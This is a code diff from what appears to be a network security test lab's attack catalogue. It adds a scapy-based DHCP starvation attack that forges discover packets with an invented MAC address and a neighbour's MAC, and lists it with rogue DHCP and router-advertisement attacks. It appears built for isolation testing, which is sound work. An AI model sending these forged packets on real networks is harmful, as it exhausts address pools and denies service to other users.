@@ -20,7 +20,7 @@ from scapy.layers.inet6 import (
 )
 from scapy.packet import Raw
 
-from lab.attacks.catalogue.draft import Attack, Draft, Make, Packet, Send, Tag
+from lab.attacks.catalogue.draft import Attack, Draft, Make, Packet, Send, Tag, bound
 from lab.attacks.catalogue.packets import BROADCAST, ether, multicast_mac, option
 from lab.attacks.catalogue.vantage import Vantage, tenants_own
 from lab.attacks.ground import NICS, Nic
@@ -88,6 +88,28 @@ def _dhcp4() -> Iterator[Draft]:
             return ether(where.mac, neighbour.mac, packet / body)
 
         yield _draft(where, "offer behind IP options", 4, [options_long], control, words)
+
+
+def _starvation() -> Iterator[Draft]:
+    """Leases for machines that do not exist, until there are none left."""
+    for where in tenants_own():
+        if not where.pinned:
+            continue
+
+        def discover(tag: Tag, mac: str, where: Vantage = where) -> Packet:
+            head = BOOTP(op=1, chaddr=bytes.fromhex(mac.replace(":", "")), file=tag.data)
+            body = head / DHCP(options=[("message-type", "discover"), "end"])
+            packet = IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) / body
+            return ether(where.mac, BROADCAST, packet)
+
+        control = where.control(bound(discover, mac=where.mac))
+        words = "a question for its own address reaches the gateway"
+        for whose, mac in (
+            ("an unknown machine", "02:d1:00:00:ee:02"),
+            ("a neighbour", NICS[where.peer].mac),
+        ):
+            makes = [bound(discover, mac=mac)]
+            yield _draft(where, f"for {whose}", 4, makes, control, words)
 
 
 # -- DHCPv6 ---------------------------------------------------------------------------------------
@@ -209,6 +231,8 @@ def _adverts() -> Iterator[Draft]:
 ATTACKS = (
     Attack("rogue-dhcpv4", "answers DHCP clients before the gateway does",
            "RFC 2131, 7; CVE-2024-3661 (TunnelVision)", _dhcp4),
+    Attack("dhcp-starvation", "asks for addresses in others' names", "RFC 2131, 7; CWE-400",
+           _starvation),
     Attack("rogue-dhcpv6", "answers DHCPv6 clients before the gateway does", "RFC 7610", _dhcp6),
     Attack("rogue-ra", "makes itself the default router and name server",
            "RFC 6104; RFC 7113 (evasion of RA guard); RFC 6980", _adverts),
